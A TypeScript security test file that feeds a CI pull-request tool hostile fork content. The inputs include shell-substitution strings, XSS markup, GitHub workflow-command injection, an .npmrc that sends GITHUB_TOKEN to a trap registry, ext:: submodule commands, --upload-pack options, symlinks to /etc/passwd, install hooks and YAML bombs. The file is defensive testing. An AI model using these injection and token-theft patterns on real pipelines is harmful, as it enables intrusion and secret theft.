/**
 * Pull requests that mean harm: names, titles, changesets, file names and configuration from a fork, each read by a job
 * that holds a token. Nothing of them is run, nobody else is asked, no token is shown, and the comment stays ours.
 */
import { existsSync, readFileSync, symlinkSync } from 'node:fs'
import { createServer, type Server } from 'node:http'
import type { AddressInfo } from 'node:net'
import { join } from 'node:path'
import { afterAll, afterEach, beforeAll, expect, test, vi } from 'vitest'
import { memoryContext } from '../src/context.ts'
import { run } from '../src/run.ts'
import { expectOurs, steering } from '../src/testing/forge-html.ts'
import { changesetFor, shop, startPullRequests } from '../src/testing/pull-requests.ts'
import { makeWorkspace, type TestWorkspace } from '../src/testing/workspace.ts'

const token = `ghs_${'S3cretS3cret'.repeat(3)}`
const webUrl = 'https://forge.example/ada/shop'

let workspace: TestWorkspace
let trap: Server
let canary: string
let asked = 0
beforeAll(async () => {
  trap = createServer((_, answer) => {
    asked += 1
    answer.end('{}')
  })
  await new Promise<void>((done) => trap.listen(0, '127.0.0.1', () => done()))
  const files = Object.entries(shop).map(([path, file]) => [path, JSON.stringify(file)])
  workspace = makeWorkspace(Object.fromEntries(files) as Record<string, string>)
  canary = join(workspace.dir, '..', `canary-${process.pid}`)
})
afterEach(() => vi.unstubAllEnvs())
afterAll(() => {
  trap?.close()
  workspace?.remove()
})

const touch = (): string => `touch ${canary}`
const script = (): string => `require('node:fs').writeFileSync(${JSON.stringify(canary)}, '')\n`
const evil = (): string => `http://127.0.0.1:${(trap.address() as AddressInfo).port}/`
const patch = (summary: string): Record<string, string> => ({
  '.changeset/a.md': changesetFor('@acme/web', 'patch', summary),
})
const named = (name: string, more: object = {}): Record<string, string> => ({
  'packages/new/package.json': JSON.stringify({ name, version: '1.0.0', ...more }),
})
const config = (more: object): Record<string, string> => ({
  '.changeset/config.json': JSON.stringify({ baseBranch: 'main', ...more }),
  ...patch('A change'),
})

type Attack = {
  readonly files?: Record<string, string>
  /** Path to what it leads to. */
  readonly links?: Record<string, string>
  readonly title?: string
  readonly branch?: string
  /** A code that has to be told. */
  readonly tells?: string
}

const attacks: Readonly<Record<string, () => Attack>> = {
  // texts of changesets
  'a script element': () => ({ files: patch('<script>alert(1)</script>') }),
  'an image that reports who looks': () => ({ files: patch(`![x](${evil()}x.png) <img src="${evil()}">`) }),
  'a link of another scheme': () => ({ files: patch('[click](javascript:alert(1)) <javascript:alert(1)>') }),
  'mentions, references and closing words': () => ({ files: patch('@acme/owners closes #1, fixes GH-2, acme/shop#3') }),
  'an end of the comment, and ours': () => ({ files: patch('--> <!-- topsail:pull-request -->') }),
  'colours and a terminal link': () => ({
    files: patch('\u001b[31mred\u001b]8;;https://evil.example\u0007x\u001b]8;;\u0007'),
  }),
  'text that runs backwards': () => ({ files: patch('\u202etxt.exe\u2066 \u200bhidden') }),
  'fences and tables': () => ({ files: patch('``` | a | b |\n| - | - |\n~~~') }),
  'details that never close': () => ({ files: patch('</details></summary><details open><summary>') }),
  'a shell': () => ({ files: patch(`$(${touch()}) \`${touch()}\`; ${touch()} && | ${touch()}`) }),
  'a workflow command': () => ({ files: patch('::set-output name=token::x\n::add-mask::x\n::error::gone') }),
  'a megabyte of text': () => ({ files: patch('x'.repeat(1_000_000)) }),
  'a megabyte of backticks': () => ({ files: patch('`'.repeat(1_000_000)) }),
  'a token that somebody pasted': () => ({ files: patch(`see ghp_${'a1b2'.repeat(9)} and https://u:p4ssword@host/`) }),
  // changesets that are none
  'front matter that explodes': () => ({
    files: {
      '.changeset/a.md': `---\na: &a [x,x,x,x,x,x,x,x,x]\nb: &b [*a,*a,*a,*a,*a,*a,*a,*a]\nc: [*b,*b,*b,*b,*b,*b]\n---\n\nx\n`,
    },
    tells: 'CHANGESET_MALFORMED',
  }),
  'front matter with a tag of a language': () => ({
    files: { '.changeset/a.md': `---\n"@acme/web": !!js/function 'function(){${script()}}'\n---\n\nx\n` },
    tells: 'CHANGESET_MALFORMED',
  }),
  'a package called __proto__': () => ({
    files: { '.changeset/a.md': '---\n__proto__: major\nconstructor: major\n---\n\nx\n' },
    tells: 'CHANGESET_UNKNOWN_PACKAGE',
  }),
  'a package that is HTML': () => ({
    files: { '.changeset/a.md': '---\n"<img src=x onerror=alert(1)>": major\n---\n\nx\n' },
    tells: 'CHANGESET_UNKNOWN_PACKAGE',
  }),
  'a bump that is none': () => ({
    files: { '.changeset/a.md': '---\n"@acme/web": $(id)\n---\n\nx\n' },
    tells: 'CHANGESET_MALFORMED',
  }),
  'zeros in a changeset': () => ({ files: { '.changeset/a.md': '---\n"@acme/web": patch\n---\n\n\u0000\u0000\n' } }),
  // names of files
  'a changeset named like an option': () => ({
    files: { '.changeset/--output=x.md': changesetFor('@acme/web', 'patch', 'x') },
  }),
  'a changeset named like a command': () => ({
    files: { '.changeset/$(touch canary);`id`.md': changesetFor('@acme/nope', 'patch', 'x') },
    tells: 'CHANGESET_UNKNOWN_PACKAGE',
  }),
  'a changeset named with line breaks': () => ({
    files: { '.changeset/a\n::error::x\n.md': changesetFor('@acme/nope', 'patch', 'x') },
    tells: 'CHANGESET_UNKNOWN_PACKAGE',
  }),
  'a changeset named like a link': () => ({
    files: { '.changeset/[x](javascript:1)`<b>.md': changesetFor('@acme/nope', 'patch', 'x') },
    tells: 'CHANGESET_UNKNOWN_PACKAGE',
  }),
  'a changeset named backwards': () => ({
    files: { '.changeset/\u202edm.exe\u202c.md': changesetFor('@acme/nope', 'patch', 'x') },
  }),
  'a file named like a magic path': () => ({
    files: { 'packages/web/:(top)': 'x', 'packages/web/:!x': 'x', 'packages/web/*': 'x' },
    tells: 'COVERAGE_MISSING',
  }),
  'a very long name': () => ({ files: { [`packages/web/${'x'.repeat(240)}`]: 'x' }, tells: 'COVERAGE_MISSING' }),
  'a changeset that leads to the password file': () => ({ links: { '.changeset/a.md': '/etc/passwd' } }),
  'a package that leads outside': () => ({ links: { 'packages/new': '/etc' } }),
  'a configuration that leads outside': () => ({ links: { 'topsail.json': '/etc/passwd' } }),
  // packages
  'a package name that is a command': () => ({ files: named(`$(${touch()})`) }),
  'a package name that climbs': () => ({ files: named('../../../etc/passwd') }),
  'a package name of a megabyte': () => ({ files: named(`x${'a'.repeat(1_000_000)}`) }),
  'a package called constructor': () => ({ files: named('constructor'), tells: 'COVERAGE_MISSING' }),
  'a version that is HTML': () => ({ files: named('new', { version: '1.0.0<script>' }) }),
  'dependencies that are no object': () => ({ files: named('new', { dependencies: 'x', peerDependencies: [1] }) }),
  'scripts that run when something is installed': () => ({
    files: named('new', {
      scripts: { preinstall: touch(), prepare: touch(), version: touch(), prepublishOnly: touch() },
    }),
  }),
  'a manifest that is no JSON': () => ({ files: { 'packages/web/package.json': '{"name": "@acme/web", ' } }),
  'a manifest as deep as a well': () => ({
    files: {
      'packages/web/package.json': `{"name":"@acme/web","version":"1.0.0","x":${'['.repeat(50_000)}${']'.repeat(50_000)}}`,
    },
  }),
  // configuration of a fork
  'a changelog module of its own': () => ({
    files: { ...config({ changelog: './evil.cjs' }), '.changeset/evil.cjs': script(), 'evil.cjs': script() },
  }),
  'a formatter of its own': () => ({
    files: { ...config({ format: 'prettier' }), '.prettierrc.cjs': script(), 'prettier.config.mjs': script() },
  }),
  'a release that tells a command': () => ({
    files: {
      'topsail.json': JSON.stringify({ release: { announce: ['sh', '-c', touch()], build: 'evil' } }),
      ...patch('x'),
    },
  }),
  'targets that are commands': () => ({
    files: {
      'topsail.json': JSON.stringify({ targets: { '@acme/web': [{ kind: 'exec', upload: ['sh', '-c', touch()] }] } }),
      ...patch('x'),
    },
  }),
  'a registry of its own, which wants the token': () => ({
    files: {
      '.npmrc': `registry=${evil()}\n${evil().slice(5)}:_authToken=\${GITHUB_TOKEN}\ngit=./evil.sh\nscript-shell=./evil.sh\n`,
      'evil.sh': `#!/bin/sh\n${touch()}\n`,
      ...patch('x'),
    },
  }),
  'a package manager of its own': () => ({
    files: {
      '.yarnrc.yml': 'yarnPath: ./evil.cjs\nplugins: [./evil.cjs]\n',
      '.pnpmfile.cjs': script(),
      'evil.cjs': script(),
      ...patch('x'),
    },
  }),
  'a Changesets of its own': () => ({
    files: {
      'node_modules/@changesets/cli/package.json': '{"name":"@changesets/cli","version":"2.0.0"}',
      'node_modules/@changesets/cli/index.js': script(),
      ...patch('x'),
    },
  }),
  'a forge of its own in the configuration': () => ({
    files: { ...config({ repo: 'evil/repo', github: { apiUrl: evil() } }), '.git-remote': evil() },
  }),
  'attributes that want programs': () => ({
    files: {
      '.gitattributes': '* filter=evil diff=evil merge=evil\n',
      '.gitmodules': `[submodule "x"]\n path = x\n url = ext::sh -c ${touch()}\n`,
      ...patch('x'),
    },
  }),
  'hooks in the folder of the repository': () => ({
    files: {
      '.husky/post-checkout': `#!/bin/sh\n${touch()}\n`,
      '.githooks/post-checkout': `#!/bin/sh\n${touch()}\n`,
      ...patch('x'),
    },
  }),
  'workflows that nobody asked for': () => ({
    files: {
      '.github/workflows/x.yml': `on: push\njobs: {x: {runs-on: self-hosted, steps: [{run: "${touch()}"}]}}\n`,
      ...patch('x'),
    },
  }),
  'a base branch that is an option': () => ({ files: config({ baseBranch: `--upload-pack=${touch()}` }) }),
  'a base branch with a command': () => ({ files: config({ baseBranch: `main;$(${touch()})` }) }),
  'patterns that never end': () => ({
    files: config({
      ignore: ['(a+)+$', '@acme/{a,b,{c,d,{e,f}}}*!(x)'],
      changedFilePatterns: [`${'*'.repeat(5_000)}a`],
    }),
  }),
  // what the forge says of it
  'a title that is a command': () => ({
    files: { 'packages/web/x.ts': 'x' },
    title: `$(${touch()}) \`${touch()}\``,
    tells: 'COVERAGE_MISSING',
  }),
  'a title that ends the changeset': () => ({
    files: { 'packages/web/x.ts': 'x' },
    title: '---\n"@acme/db": major\n---',
    tells: 'COVERAGE_MISSING',
  }),
  'a title that ends the link': () => ({
    files: { 'packages/web/x.ts': 'x' },
    title: '>) <img src=x> [a](b)\u202e',
    tells: 'COVERAGE_MISSING',
  }),
  'a title of a megabyte': () => ({
    files: { 'packages/web/x.ts': 'x' },
    title: '@all '.repeat(200_000),
    tells: 'COVERAGE_MISSING',
  }),
  'a branch that is a command': () => ({
    files: { 'packages/web/x.ts': 'x' },
    branch: `a;$(${touch()})>)<img>`,
    tells: 'COVERAGE_MISSING',
  }),
  'a branch that climbs': () => ({
    files: { 'packages/web/x.ts': 'x' },
    branch: '../../../settings?x=',
    tells: 'COVERAGE_MISSING',
  }),
}

test.each(Object.entries(attacks))('%s', async (_, attack) => {
  const { files = {}, links = {}, title = 'feat: more', branch = 'more', tells } = attack()
  workspace.git('checkout', '--quiet', '--force', '-B', 'attack', 'main')
  workspace.write(files)
  for (const [path, target] of Object.entries(links)) symlinkSync(target, join(workspace.dir, path))
  workspace.git('add', '--all', '--force')
  const head = workspace.commit(title.slice(0, 100))
  const { report, outputs } = await readAsFork(head, title, branch)
  const document = report as { problems?: readonly { code: string }[] } | undefined
  if (tells !== undefined) expect(document?.problems?.map(({ code }) => code)).toContain(tells)
  if (report !== undefined) {
    const words = memoryContext({ cwd: workspace.dir, input: JSON.stringify(report) })
    const code = await run(['ci', 'words', '--branch', branch, '--web-url', webUrl], words.context)
    expect({ code, errors: words.stderr() }).toEqual({ code: 0, errors: '' })
    const { check } = JSON.parse(words.stdout()) as { check: { summary: string } }
    expectOurs(check.summary, webUrl)
    outputs.push(words.stdout())
  }
  for (const output of outputs) expect(output.includes(token)).toBe(false)
  expect(existsSync(canary)).toBe(false)
  expect(asked).toBe(0)
})

/** The half that may not write, in a job that holds a token all the same. */
async function readAsFork(head: string, title: string, branch: string) {
  const event = join(workspace.dir, '..', `event-${process.pid}.json`)
  const file = join(workspace.dir, '..', `report-${process.pid}.json`)
  const { writeFileSync, rmSync } = await import('node:fs')
  const side = { sha: head, ref: branch, repo: { full_name: 'ada/shop' } }
  writeFileSync(
    event,
    JSON.stringify({ pull_request: { number: 7, title, head: side, base: { repo: { full_name: 'acme/shop' } } } }),
  )
  rmSync(file, { force: true })
  vi.stubEnv('GITHUB_TOKEN', token)
  vi.stubEnv('NODE_AUTH_TOKEN', token)
  const env = {
    GITHUB_ACTIONS: 'true',
    GITHUB_TOKEN: token,
    GITHUB_REPOSITORY: 'acme/shop',
    GITHUB_SERVER_URL: 'https://forge.example',
    GITHUB_API_URL: evil(),
    GITHUB_EVENT_NAME: 'pull_request',
    GITHUB_EVENT_PATH: event,
  }
  const { context, stdout, stderr } = memoryContext({ cwd: workspace.dir, env })
  const code = await run(['ci', 'pr', '--since', 'main', '--report', file], context)
  expect([0, 1]).toContain(code)
  expect(stdout()).not.toMatch(steering)
  expect(stderr()).not.toMatch(steering)
  // A runner takes a line for a command only where we meant one.
  const commands = `${stdout()}\n${stderr()}`.split('\n').filter((line) => line.startsWith('::'))
  for (const command of commands) expect(command).toMatch(/^::(error|warning) (file=|title=[A-Z_]+::)/)
  const text = existsSync(file) ? readFileSync(file, 'utf8') : undefined
  rmSync(file, { force: true })
  rmSync(event, { force: true })
  return {
    report: text === undefined ? undefined : (JSON.parse(text) as unknown),
    outputs: [stdout(), stderr(), text ?? ''],
  }
}

test('a fork with much of it at once, on a forge: one comment, which is ours', async () => {
  const pulls = await startPullRequests()
  try {
    const fork = await pulls.rig.fork()
    await fork.git('checkout', '--quiet', '-b', 'much')
    for (const attack of Object.values(attacks)) {
      const { files = {} } = attack()
      const some = Object.entries(files).filter(([path, text]) => !path.endsWith('.json') && text.length < 10_000)
      await fork.write(
        Object.fromEntries(some.map(([path, text], index) => [path.replace('/a.md', `/a${index}.md`), text])),
      )
    }
    await fork.write({ 'packages/new/package.json': { name: '<b>@all</b>', version: '1.0.0' } })
    await fork.push('feat: much')
    const number = await pulls.rig.openPullRequest('ada:much', { title: 'closes #1 @mona <img src=x>' })
    const { code, stdout, stderr } = await pulls.job(number, ['ci', 'pr'], { token: pulls.rig.tokens.ci })
    expect(code).toBe(1)
    expect(`${stdout}${stderr}`).not.toContain(pulls.rig.tokens.ci)
    const comments = await pulls.comments(number)
    expect(comments).toHaveLength(1)
    const [, ...ours] = (comments[0]?.body ?? '').split('\n')
    expectOurs(ours.join('\n'), pulls.rig.webUrl)
    expect(existsSync(canary)).toBe(false)
  } finally {
    await pulls.close()
  }
})
